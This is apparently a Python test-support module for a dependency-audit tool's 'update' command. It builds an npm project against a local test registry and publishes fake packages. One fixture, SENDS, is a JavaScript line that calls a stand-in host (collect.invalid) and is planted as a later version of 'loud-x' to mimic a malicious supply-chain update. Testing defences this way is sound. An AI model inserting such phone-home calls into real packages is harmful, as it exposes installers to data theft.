"""A project locked by the real npm when its loopback registry had only the first versions, and our `update` in it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import TYPE_CHECKING

from support.program import HEARS, ROOT

sys.path.insert(0, str(ROOT))
from tools.expected_trees.registry import Registry  # a tool, not on the path by itself; handed on

if TYPE_CHECKING:
    from pathlib import Path

__all__ = ["SENDS", "Project", "Registry", "filled"]

SENDS = "require('https').get('https://collect.invalid/x')"
PACKAGES: tuple[tuple[str, str, dict[str, str], str], ...] = (
    ("quiet-x", "1.0.0", {}, "module.exports = 1"),
    ("quiet-x", "1.0.1", {}, "module.exports = 2"),
    ("loud-x", "1.0.0", {}, "module.exports = 1"),
    ("loud-x", "1.0.1", {}, "module.exports = 2"),
    ("loud-x", "1.0.2", {}, SENDS),
    ("carrier-x", "1.0.0", {"loud-x": "^1.0.0"}, "require('loud-x')"),
    ("carrier-x", "1.1.0", {"loud-x": "^1.0.2"}, "require('loud-x')"),
)


class Project:
    """The project."""

    def __init__(self, folder: Path, registry: Registry, npm: str) -> None:
        self.folder = folder
        self.environment = {
            **os.environ,
            "PYTHONPATH": str(ROOT),
            "CONTAIN_AUDIT_CACHE": str(folder.parent / "ours"),
            "npm_config_cache": str(folder.parent / "npm"),
            "npm_config_fetch_retries": "0",
        }
        folder.mkdir()
        self._npm = npm
        (folder / ".npmrc").write_text(f"registry={registry.url}\n")
        self.lock_again()

    def lock_again(self) -> None:
        """Lock the first versions, of what the registry has now."""
        for name in ("package-lock.json", "package.json"):
            (self.folder / name).unlink(missing_ok=True)
        asked = {"quiet-x": "1.0.0", "loud-x": "1.0.0", "carrier-x": "1.0.0"}
        ranges = {name: f"^{version}" for name, version in asked.items()}
        for dependencies in (asked, ranges):
            self.lock(dependencies)

    def lock(self, dependencies: dict[str, str]) -> None:
        """Let npm lock what the project asks for, beside what is locked."""
        self._write(dependencies)
        self._lock()
        self.before = self.lockfile

    def write_workspaces(self, dependencies: dict[str, dict[str, str]]) -> None:
        """Give the project workspaces, by their names, and lock again what is locked."""
        for name, asked in dependencies.items():
            folder = self.folder / "packages" / name
            folder.mkdir(parents=True)
            self._write(asked, folder, name=name)
        manifest = json.loads((self.folder / "package.json").read_text())
        manifest["workspaces"] = ["packages/*"]
        (self.folder / "package.json").write_text(json.dumps(manifest))
        self._lock()
        self.before = self.lockfile

    def _lock(self) -> None:
        subprocess.run(
            [self._npm, "install", "--package-lock-only", "--no-audit", "--no-fund"],
            cwd=self.folder,
            check=True,
            capture_output=True,
            env=self.environment,
        )

    def _write(
        self, dependencies: dict[str, str], folder: Path | None = None, name: str = "shop-x"
    ) -> None:
        manifest = {"name": name, "version": "1.0.0", "dependencies": dependencies}
        ((folder or self.folder) / "package.json").write_text(json.dumps(manifest))

    @property
    def lockfile(self) -> str:
        return (self.folder / "package-lock.json").read_text()

    def versions(self) -> dict[str, str]:
        packages = json.loads(self.lockfile)["packages"]
        return {
            name.removeprefix("node_modules/"): meta["version"]
            for name, meta in packages.items()
            if name and "version" in meta
        }

    def update(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "audit", "update", *arguments]
        return subprocess.run(
            command,
            cwd=self.folder,
            capture_output=True,
            text=True,
            check=False,
            env=self.environment,
        )

    def start(self, *arguments: str, driver: str = "") -> subprocess.Popen[str]:
        """Start `update` and do not wait; `driver` is Python that runs first in its process."""
        starts = "import sys; sys.argv[0] = 'contain-audit'"
        code = f"{HEARS}{starts}\n{driver}\nfrom audit.cli.app import main; main()"
        return subprocess.Popen(
            [sys.executable, "-c", code, "update", *arguments],
            cwd=self.folder,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={**self.environment, "TMPDIR": str(self.temporary)},
        )

    @property
    def temporary(self) -> Path:
        """A folder for temporary files of its own, to see that none stays."""
        folder = self.folder.parent / "temporary"
        folder.mkdir(exist_ok=True)
        return folder

    def files(self) -> dict[str, bytes]:
        """Every file of the project."""
        return {path.name: path.read_bytes() for path in sorted(self.folder.iterdir())}


def filled(registry: Registry) -> Registry:
    """Publish the packages."""
    for name, version, dependencies, code in PACKAGES:
        registry.publish(
            {"name": name, "version": version, "dependencies": dependencies}, {"index.js": code}
        )
    return registry
